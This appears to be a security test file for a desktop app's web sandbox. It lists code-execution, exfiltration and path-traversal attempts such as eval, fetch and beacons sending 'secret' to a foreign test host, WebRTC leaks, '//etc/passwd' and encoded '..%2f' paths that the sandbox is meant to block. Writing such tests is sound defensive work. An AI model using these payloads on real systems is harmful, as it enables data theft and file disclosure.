// Foreign code, foreign hosts, the disk.
import { attack, element } from './attack';

export const scripts = [
  attack('eval', `return eval('1');`),
  attack('new Function', `return new Function('return 1')();`),
  attack('a timer of text', `setTimeout('window.taken = 1', 0); await at.pause(); return window.taken;`),
  attack(
    'an inline script',
    `const script = document.createElement('script'); script.textContent = 'window.taken = 1'; document.body.append(script); return window.taken;`,
  ),
  attack(
    'an inline handler',
    `const div = document.createElement('div'); div.setAttribute('onclick', 'window.taken = 1'); document.body.append(div); div.click(); div.remove(); return window.taken;`,
  ),
  attack('a script of a foreign host', element('script', `{ src: at.foreign + '/x.js' }`)),
  attack('a module of a foreign host', `return import(at.foreign + '/x.js');`),
  attack('a module from data', `return import('data:text/javascript,export default 1');`),
  attack(
    'a module from a blob',
    `return import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })));`,
  ),
  attack('a worker of a foreign host', `return new Worker(at.foreign + '/x.js');`),
  attack(
    'a worker from a blob',
    `return new Promise((done) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => done('ran'); worker.onerror = () => done(null); setTimeout(done, 250); });`,
  ),
  attack(
    'a shared worker',
    `return new Promise((done) => { const worker = new SharedWorker('data:text/javascript,onconnect=(e)=>e.ports[0].postMessage(1)'); worker.port.onmessage = () => done('ran'); worker.onerror = () => done(null); setTimeout(done, 250); });`,
  ),
  attack('a service worker', `return navigator.serviceWorker.register('/sw.js');`),
  attack(
    'a worklet',
    `await new AudioContext().audioWorklet.addModule(at.foreign + '/x.js'); return 'added';`,
  ),
  attack('WebAssembly', `return WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));`),
];

export const leaks = [
  attack('fetch', `return fetch(at.foreign + '/f');`),
  attack(
    'fetch without CORS',
    `return fetch(at.foreign + '/f', { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true });`,
  ),
  attack(
    'XMLHttpRequest',
    `return new Promise((done) => { const ask = new XMLHttpRequest(); ask.onload = () => done('answered'); ask.onerror = () => done(null); ask.open('GET', at.foreign); ask.send(); });`,
  ),
  attack(
    'WebSocket',
    `return new Promise((done) => { const socket = new WebSocket('ws://' + at.place); socket.onopen = () => done('open'); socket.onerror = () => done(null); });`,
  ),
  attack(
    'EventSource',
    `return new Promise((done) => { const source = new EventSource(at.foreign); source.onopen = () => done('open'); source.onerror = () => { source.close(); done(null); }; });`,
  ),
  attack('WebTransport', `return new WebTransport('https://' + at.udp + '/').ready.then(() => 'open');`),
  attack('a beacon', `navigator.sendBeacon(at.foreign + '/b', 'secret'); await at.pause();`),
  attack('an image', element('img', `{ src: at.foreign + '/i.png' }`)),
  attack(
    'a video',
    `const video = document.createElement('video'); video.src = at.foreign + '/v.mp4'; video.load(); await at.pause();`,
  ),
  attack('a style sheet', element('link', `{ rel: 'stylesheet', href: at.foreign + '/s.css' }`)),
  attack(
    'a style that loads',
    `const style = document.createElement('style'); style.textContent = '@import url(' + at.foreign + '/s.css); @font-face { font-family: x; src: url(' + at.foreign + '/f.woff2) } body { background: url(' + at.foreign + '/b.png) }'; document.head.append(style); document.fonts.load('12px x').catch(() => null); await at.pause(); style.remove();`,
  ),
  attack('a font', `return new FontFace('y', 'url(' + at.foreign + '/y.woff2)').load();`),
  ...[
    'prefetch',
    'preload',
    'modulepreload',
    'prerender',
    'preconnect',
    'dns-prefetch',
    'manifest',
    'icon',
  ].map((rel) =>
    attack(
      `link rel=${rel}`,
      `const link = Object.assign(document.createElement('link'), { rel: '${rel}', href: at.foreign + '/l', as: 'image' }); document.head.append(link); await at.pause(); link.remove();`,
    ),
  ),
  attack(
    'a name looked up',
    `const link = Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: '//stolen.localhost' }); document.head.append(link); await at.pause(); link.remove();`,
  ),
  attack(
    'speculation rules',
    `const rules = Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [at.foreign + '/p'] }], prerender: [{ source: 'list', urls: [at.foreign + '/p'] }] }) }); document.head.append(rules); await at.pause(); rules.remove();`,
  ),
  attack('a ping of a link', element('a', `{ href: '#', ping: at.foreign + '/ping' }`)),
  ...['stun:', 'turn:', 'turn:tcp', 'turns:tcp'].map((way) => {
    const [scheme = '', transport] = way.split(':');
    const url = `'${scheme}:' + at.${transport ? 'place' : 'udp'} + '${transport ? '?transport=tcp' : ''}'`;
    return attack(
      `WebRTC by ${way}`,
      `const peer = new RTCPeerConnection({ iceServers: [{ urls: ${url}, username: 'secret', credential: 'x' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await at.pause(800); peer.close();`,
    );
  }),
  attack(
    'WebRTC to a peer',
    `const peer = new RTCPeerConnection(); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); const sdp = peer.localDescription.sdp.replace('a=setup:actpass', 'a=setup:active'); await peer.setRemoteDescription({ type: 'answer', sdp }); const [ip, port] = at.udp.split(':'); for (const [kind, to] of [['udp', port], ['tcp', at.place.split(':')[1]]]) await peer.addIceCandidate({ candidate: 'candidate:1 1 ' + kind + ' 2122260223 ' + ip + ' ' + to + ' typ host' + (kind === 'tcp' ? ' tcptype passive' : ''), sdpMid: '0', sdpMLineIndex: 0 }).catch(() => null); await at.pause(800); peer.close();`,
  ),
  attack(
    'a reporting endpoint',
    `new ReportingObserver(() => 1).observe(); return fetch(at.foreign + '/report', { mode: 'no-cors' });`,
  ),
  attack('another port of the same machine', `return fetch('http://localhost:' + at.place.split(':')[1]);`),
  attack(
    'a redirect of its own host',
    `return (await fetch(at.host + '//' + at.place + '/', { redirect: 'follow' })).url.startsWith(at.foreign);`,
  ),
];

export const files = [
  ...[
    `'file://' + at.userData + '/workspaces.json'`,
    `'app://handschlag/..%2f..%2fpackage.json'`,
    `'app://handschlag/' + encodeURIComponent(at.userData + '/workspaces.json')`,
  ].flatMap((url) => [
    attack(`fetch ${url}`, `return (await fetch(${url})).ok;`),
    attack(
      `XMLHttpRequest ${url}`,
      `return new Promise((done) => { const ask = new XMLHttpRequest(); ask.onload = () => done(ask.status === 200 || ask.responseText); ask.onerror = () => done(null); ask.open('GET', ${url}); ask.send(); });`,
    ),
    attack(`script ${url}`, element('script', `{ src: ${url} }`)),
  ]),
  ...[
    '/%2e%2e/%2e%2e/package.json',
    '/..%2f..%2fworkspaces.json',
    '/assets/..%5c..%5cpackage.json',
    '//etc/passwd',
    '/copies/',
    '/workspace.db',
  ].map((path) =>
    attack(
      `the host's disk by ${path}`,
      `return /"profiles"|"devDependencies"|root:|SQLite/.test(await (await fetch(at.host + '${path}')).text());`,
    ),
  ),
];
